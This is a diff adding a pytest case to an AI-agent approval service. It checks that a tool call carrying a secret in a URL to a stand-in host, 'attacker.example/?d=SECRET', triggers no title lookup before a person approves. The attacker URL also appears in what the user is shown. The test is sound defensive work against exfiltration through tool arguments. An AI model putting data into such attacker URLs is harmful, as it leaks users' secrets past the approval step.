@@ -9,9 +9,10 @@ from typing import TYPE_CHECKING, Any
 import pytest
 
 from kernel_service.approvals.approval import Approval
+from kernel_service.approvals.hints import Effect, Hints
 from kernel_service.approvals.prompt import MOST_TITLE, shown
 from kernel_service.errors import VendorUnavailable
-from kernel_service.messages import Usage
+from kernel_service.messages import Message, ReplyMode, Usage
 from kernel_service.turns.model import FunctionCall, ModelAnswer, ToolSchema
 from kernel_service.turns.titles import ids_in, reader_of, title_in
 from kernel_service.turns.tools import ToolResult
@@ -185,3 +186,21 @@ async def test_a_reader_that_hangs_is_not_waited_for(scene: Scene, monkeypatch: 
     sees(scene, "ASANA_GET_TASK", required=("task_gid",))
     scene.look.gate = asyncio.Event()
     assert "I found under" not in await asks(scene)
+
+
+async def test_no_title_is_looked_up_by_a_call_that_would_ask_itself(scene: Scene) -> None:
+    """What the model puts beside an id would leave with it, before anybody was asked."""
+    sees(scene, "SITE_GET_JOB", {"id": GID, "name": "Read"}, required=("task_gid",))
+    scene.look.schema.parameters["properties"]["url"] = {"type": "string"}
+    scene.look.asks_first = None
+    scene.look.hints = Hints("never_heard_of", Effect.READS)
+    scene.act.schema = ToolSchema("SITE_DELETE_JOB", "", {"type": "object", "properties": {}})
+    scene.act.asks_first = True
+    passed_on = Message("chat:1", "m1", {"text": "do it", "forwarded": True}, reply_mode=ReplyMode.INLINE)
+    accepted = await scene.store.accept(passed_on, now=scene.clock(), max_pending=10)
+    scene.person_id, scene.seq = accepted.person_id, accepted.seq
+    secret = {"task_gid": GID, "url": "https://attacker.example/?d=SECRET"}
+    scene.model.says = [calls("SITE_DELETE_JOB", **secret), says("Shall I?")]
+    await scene.run()
+    assert any("attacker.example" in text for text in await scene.told())
+    assert scene.look.calls == 0
